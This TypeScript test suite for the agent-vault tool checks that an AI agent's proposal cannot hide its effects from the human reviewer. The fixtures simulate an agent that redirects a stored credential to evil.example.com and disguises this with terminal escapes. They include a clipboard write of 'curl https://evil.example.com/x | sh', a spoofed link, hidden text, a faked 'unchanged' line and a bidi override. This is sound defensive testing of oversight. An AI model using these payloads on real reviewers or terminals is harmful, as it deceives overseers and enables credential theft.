// Attack: terminal escapes in an agent's proposal (issue 12, item 5). The agent, with its session
// token, files a proposal that moves an existing service (and so its existing credential) to
// evil.example.com, and dresses it up with terminal control in every free-text field: cursor-up +
// erase-line + carriage return to redraw the review as "unchanged", OSC 52 (write the clipboard),
// OSC 8 (a link whose target differs from its text), SGR 8 left on (hide everything after it),
// 8-bit CSI (U+009B) and a right-to-left override (U+202E). What must hold, through the compiled
// binary run as the unprivileged user:
//   - `proposal list`, `show` and `approve` print none of those characters raw (they appear as
//     visible escapes), and they state the host change and the warnings, after the agent's text;
//   - the TUI (in a real terminal, tmux) lets none of them reach the terminal: no clipboard write
//     (tmux, with set-clipboard on, would keep one as a paste buffer), no hidden cells, and the
//     effect line and warning are on screen;
//   - the existing credential's value is in nothing the agent or the reviewer got.
import { beforeAll, describe, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { asAgent } from "../support/attacker.ts";
import { cleanEnv, type RunResult, type TempHome, tempHome } from "../support/binary.ts";
import { startServer } from "../support/server.ts";
import { fileScene } from "../support/scene.ts";
import { holdSession } from "../support/session.ts";

const { scratch, cleanups, outputs } = fileScene("av-escapes-", { openToAgent: true });
const CANARY = `fake-canary-${randomBytes(12).toString("hex")}`;
const OTHER_CANARY = `other-canary-${randomBytes(12).toString("hex")}`;
const HAVE_TMUX = Bun.spawnSync(["sh", "-c", "command -v tmux"]).exitCode === 0;

// The agent's tricks, one per line of its message.
const REDRAW = "\x1b[1A\x1b[2K\x1b[1A\x1b[2K\r  + fake: api.fake.test, bearer, FAKE_TOKEN (unchanged)";
const OSC52 = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS5jb20veCB8IHNo\x07";
const OSC8 = "\x1b]8;;https://evil.example.com/steal\x1b\\https://docs.fake.test/keys\x1b]8;;\x1b\\";
const HIDE = "\x1b[8mHIDDEN-FROM-REVIEWER";
const C1 = "\u009b2J\u009b31mC1-CSI";
const BIDI = "\u202emoc.tset.ekaf.ipa";
const MESSAGE = [`Rotation ${C1} ${BIDI} ${HIDE}`, "Routine rotation of the fake service, nothing changes.", REDRAW, OSC52, OSC8].join("\n");

/** Raw characters a terminal acts on, or that hide or reorder text. \n is the only control allowed. */
const RAW_UNSAFE = /[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

let H: TempHome;
let API: string;
let token: string;
let proposalId: number;

async function cli(args: readonly string[]): Promise<RunResult> {
  const r = await H.run(args);
  outputs.push(r.stdout, r.stderr);
  return r;
}

async function cliWide(args: readonly string[]): Promise<RunResult> {
  const r = await H.run(args, { env: { COLUMNS: "200" } });
  outputs.push(r.stdout, r.stderr);
  return r;
}

async function ok(args: readonly string[], stdin?: string): Promise<RunResult> {
  const r = await H.run(args, { stdin });
  if (r.code !== 0) throw new Error(`agent-vault ${args.join(" ")} failed (${r.code}): ${r.stderr}`);
  return r;
}

/** The agent files a proposal with curl, as the unprivileged user, with its own session token. */
async function agentFiles(body: unknown): Promise<{ status: number; json: any; text: string }> {
  const bodyFile = join(scratch, `body-${randomBytes(4).toString("hex")}.json`);
  writeFileSync(bodyFile, JSON.stringify(body), { mode: 0o644 });
  const proc = Bun.spawn(
    asAgent([
      "curl",
      "-sS",
      "-w",
      "\n%{http_code}",
      "-X",
      "POST",
      "-H",
      `authorization: Bearer ${token}`,
      "-H",
      "content-type: application/json",
      "--data-binary",
      `@${bodyFile}`,
      `${API}/v1/proposals`,
    ]),
    {
      env: cleanEnv(),
      stdout: "pipe",
      stderr: "pipe",
    },
  );
  const [out, err] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
  outputs.push(out, err);
  const cut = out.lastIndexOf("\n");
  const text = out.slice(0, cut);
  return { status: Number(out.slice(cut + 1)), json: JSON.parse(text), text };
}

function expectNoRawControl(text: string, what: string): void {
  const found = RAW_UNSAFE.exec(text);
  expect(
    found,
    `${what} holds a raw U+${(found?.[0].codePointAt(0) ?? 0).toString(16).padStart(4, "0")} near ${JSON.stringify(text.slice(Math.max(0, (found?.index ?? 0) - 40), (found?.index ?? 0) + 40))}`,
  ).toBeNull();
}

beforeAll(async () => {
  H = await tempHome({ asAgent: true });
  cleanups.push(() => H.cleanup());
  await ok(["vault", "credential", "set", "FAKE_TOKEN=-"], CANARY);
  await ok(["vault", "credential", "set", "OTHER_KEY=-"], OTHER_CANARY);
  await ok(["vault", "service", "add", "--name", "fake", "--host", "api.fake.test", "--auth-type", "bearer", "--token-key", "FAKE_TOKEN"]);
  await ok(["vault", "service", "add", "--name", "other", "--host", "api.other.test", "--auth-type", "bearer", "--token-key", "OTHER_KEY"]);
  const server = await startServer(H, {}, cleanups);
  API = `http://127.0.0.1:${server.apiPort}`;
  // The agent's session: a `run` child (as the agent user) that prints its token and waits.
  ({ token } = await holdSession(H, cleanups, { killAfterMs: 2000 }));

  const filed = await agentFiles({
    services: [{ action: "set", name: "fake", host: "evil.example.com", auth: { type: "bearer", token: "FAKE_TOKEN" }, description: `same as before${HIDE}` }],
    credentials: [
      {
        action: "set",
        key: "OTHER_KEY",
        value: "agent-chosen-value-0123456789",
        description: `${OSC8} ${C1}`,
        obtain: "https://docs.fake.test/keys",
        obtain_instructions: `${REDRAW}\n${OSC52}${BIDI}\x1b[8m`,
      },
    ],
    message: MESSAGE,
    user_message: `${HIDE}\x1b[J`,
  });
  expect(filed.status, filed.text).toBe(201);
  proposalId = filed.json.id as number;
}, 60_000);

// ---------------------------------------------------------------------------------------------

const EFFECT = "service fake: host api.fake.test → evil.example.com";
const WARNING = "FAKE_TOKEN, a credential already in the vault, would be sent to evil.example.com; today it goes only to api.fake.test";
const REPLACED = "credential OTHER_KEY: the current value is replaced by one the agent chose";

describe("terminal escapes in a proposal, through the CLI", () => {
  test("proposal list: the message column shows escapes, not control", async () => {
    // Wide enough that the message column is not cut (at 80 columns the table cuts it with "…").
    const r = await cliWide(["vault", "proposal", "list"]);
    expect(r.code, r.stderr).toBe(0);
    expectNoRawControl(r.stdout + r.stderr, "proposal list");
    expect(r.stdout).toMatch(new RegExp(`^${proposalId}\\s+pending\\s+fake \\(evil\\.example\\.com\\)`, "m"));
    expect(r.stdout).toContain("Rotation \\u009b2J\\u009b31mC1-CSI \\u202emoc");
  });

  test("proposal list --json: the same values for a parser, no raw C1 or bidi characters", async () => {
    const r = await cli(["vault", "proposal", "list", "--json"]);
    expect(r.code, r.stderr).toBe(0);
    expectNoRawControl(r.stdout, "proposal list --json");
    expect((JSON.parse(r.stdout) as { message: string }[])[0]!.message).toBe(MESSAGE);
  });

  test("proposal show: every trick visible as an escape; the host change and both warnings after the agent's text", async () => {
    const r = await cli(["vault", "proposal", "show", String(proposalId)]);
    expect(r.code, r.stderr).toBe(0);
    const out = r.stdout;
    expectNoRawControl(out + r.stderr, "proposal show");
    for (const visible of ["\\x1b[1A\\x1b[2K\\x1b[1A\\x1b[2K\\r", "\\x1b]52;c;", "\\x1b]8;;https://evil.example.com/steal", "\\x1b[8mHIDDEN-FROM-REVIEWER", "\\u009b2J", "\\u202emoc.tset.ekaf.ipa"]) {
      expect(out, visible).toContain(visible);
    }
    // Every line of the agent's multi-line text is behind our bar: none can pass for ours.
    expect(out).toContain("  │ \\x1b[1A\\x1b[2K\\x1b[1A\\x1b[2K\\r  + fake: api.fake.test, bearer, FAKE_TOKEN (unchanged)");
    expect(out).not.toMatch(/^\s*\+ fake: api\.fake\.test/m);
    expect(out).toContain(EFFECT);
    expect(out).toContain(WARNING);
    expect(out).toContain(REPLACED);
    // The truth comes after everything the agent wrote, warnings last.
    const lastAgentText = Math.max(out.lastIndexOf("HIDDEN-FROM-REVIEWER"), out.lastIndexOf("moc.tset.ekaf.ipa"), out.lastIndexOf("C1-CSI"));
    expect(out.indexOf(EFFECT)).toBeGreaterThan(lastAgentText);
    expect(out.indexOf(WARNING)).toBeGreaterThan(out.indexOf(EFFECT));
    expect(out.trimEnd().split("\n").at(-1)).toStartWith("  ! ");
  });

  test("proposal approve: the same review on stderr, and without confirmation nothing is applied", async () => {
    const r = await cli(["vault", "proposal", "approve", String(proposalId)]);
    expect(r.code).not.toBe(0);
    expectNoRawControl(r.stdout + r.stderr, "proposal approve");
    expect(r.stderr).toContain(EFFECT);
    expect(r.stderr).toContain(WARNING);
    expect(r.stderr.indexOf(WARNING)).toBeGreaterThan(r.stderr.lastIndexOf("HIDDEN-FROM-REVIEWER"));
    expect(r.stderr).toContain("approving needs confirmation");
    const shown = JSON.parse((await cli(["vault", "proposal", "show", String(proposalId), "--json"])).stdout) as { status: string };
    expect(shown.status).toBe("pending");
    const services = JSON.parse((await cli(["vault", "service", "list", "--json"])).stdout) as { name: string; host: string }[];
    expect(services.find((s) => s.name === "fake")?.host).toBe("api.fake.test");
  });

  test("the credentials' values are in nothing the agent or the reviewer got", () => {
    for (const out of outputs) {
      expect(out).not.toContain(CANARY);
      expect(out).not.toContain(OTHER_CANARY);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// The TUI in a real terminal: a private tmux server whose pane runs the binary as the agent user.

const SOCKET = join(scratch, "tmux.sock");
const CONFIG = join(scratch, "tmux.conf");
// set-clipboard on: an OSC 52 that reaches tmux becomes a paste buffer we can look for.
writeFileSync(CONFIG, "set -s exit-empty off\nset -g status off\nset -s escape-time 0\nset -s set-clipboard on\n");

async function tmux(...args: string[]): Promise<string> {
  const env = cleanEnv({ ...H.env, TMUX: undefined, TMUX_PANE: undefined, NO_COLOR: undefined, TERM: "xterm-256color" });
  const proc = Bun.spawn(["tmux", "-S", SOCKET, "-f", CONFIG, ...args], { env, stdout: "pipe", stderr: "pipe" });
  const [out, err, code] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
  if (code !== 0) throw new Error(`tmux ${args.join(" ")} failed (${code}): ${err}`);
  return out;
}

async function screenUntil(probe: (screen: string) => boolean, ms = 10_000): Promise<string> {
  const deadline = Date.now() + ms;
  for (;;) {
    const screen = await tmux("capture-pane", "-p", "-t", "tui");
    if (probe(screen)) return screen;
    if (Date.now() > deadline) throw new Error(`the TUI never showed what was expected; screen:\n${screen}`);
    await Bun.sleep(50);
  }
}

/** SGR sequences in a capture (-e) that turn on hidden text (parameter 8). */
function hiddenAttributes(capture: string): string[] {
  return [...capture.matchAll(/\x1b\[([0-9;:]*)m/g)].filter((m) => m[1]!.split(/[;:]/).includes("8")).map((m) => m[0]);
}

const it = HAVE_TMUX ? test : test.skip;

describe("terminal escapes in a proposal, in the TUI (tmux)", () => {
  it("no clipboard write, no hidden cells, the tricks shown as text; the effect and the warning on screen", async () => {
    await tmux("new-session", "-d", "-s", "tui", "-x", "220", "-y", "50", "--", ...H.argv(["tui", "--no-bell"]));
    cleanups.push(async () => {
      try {
        await tmux("kill-server");
      } catch {
        // already gone
      }
    });
    const list = await screenUntil((s) => s.includes("Proposals (1)") && s.includes(`#${proposalId}`));
    await Bun.sleep(300);
    const listEscapes = await tmux("capture-pane", "-e", "-p", "-t", "tui");
    const listBuffers = await tmux("list-buffers", "-F", "#{buffer_name}: #{buffer_sample}");
    // Ink re-subscribes its key handler after a frame: a key sent at once can be lost.
    await tmux("send-keys", "-t", "tui", "Enter");
    await screenUntil((s) => s.includes(`Proposal #${proposalId} ·`));
    await Bun.sleep(300);
    const detail = await tmux("capture-pane", "-p", "-t", "tui");
    if (process.env.AGENT_VAULT_TEST_SHOW_SCREEN) console.log(detail);
    const detailEscapes = await tmux("capture-pane", "-e", "-p", "-t", "tui");
    const buffers = await tmux("list-buffers", "-F", "#{buffer_name}: #{buffer_sample}");

    // What reached the terminal: no clipboard write, no hidden cells, no OSC left in the cells.
    expect(listBuffers.trim(), "an OSC 52 in the list reached the terminal and wrote the clipboard").toBe("");
    expect(buffers.trim(), "an OSC 52 in the detail reached the terminal and wrote the clipboard").toBe("");
    expect(hiddenAttributes(listEscapes), "SGR 8 reached the terminal: list text is hidden").toEqual([]);
    expect(hiddenAttributes(detailEscapes), "SGR 8 reached the terminal: detail text is hidden").toEqual([]);
    expect(listEscapes + detailEscapes).not.toContain("\x1b]");
    // The tricks are on screen as text, and the truth after them.
    expect(list).toContain("Rotation \\u009b2J\\u009b31mC1-CSI \\u202emoc.tset.ekaf.ipa \\x1b[8mHIDDEN-FROM-REVIEWER\\nRoutine rotation");
    for (const visible of ["\\x1b]52;c;", "\\x1b]8;;https://evil.example.com/steal", "\\x1b[8mHIDDEN-FROM-REVIEWER", "\\u009b2J", "\\u202emoc.tset.ekaf.ipa", "\\x1b[1A\\x1b[2K"]) {
      expect(detail, visible).toContain(visible);
    }
    expect(detail).toContain(EFFECT);
    expect(detail).toContain(WARNING);
    expect(detail.indexOf(WARNING)).toBeGreaterThan(detail.indexOf(EFFECT));
    expect(detail.indexOf(EFFECT)).toBeGreaterThan(detail.lastIndexOf("HIDDEN-FROM-REVIEWER"));
    expect(detail).not.toContain(CANARY);
    expect(detail).not.toContain(OTHER_CANARY);
    await tmux("send-keys", "-t", "tui", "q");
  }, 40_000);
});
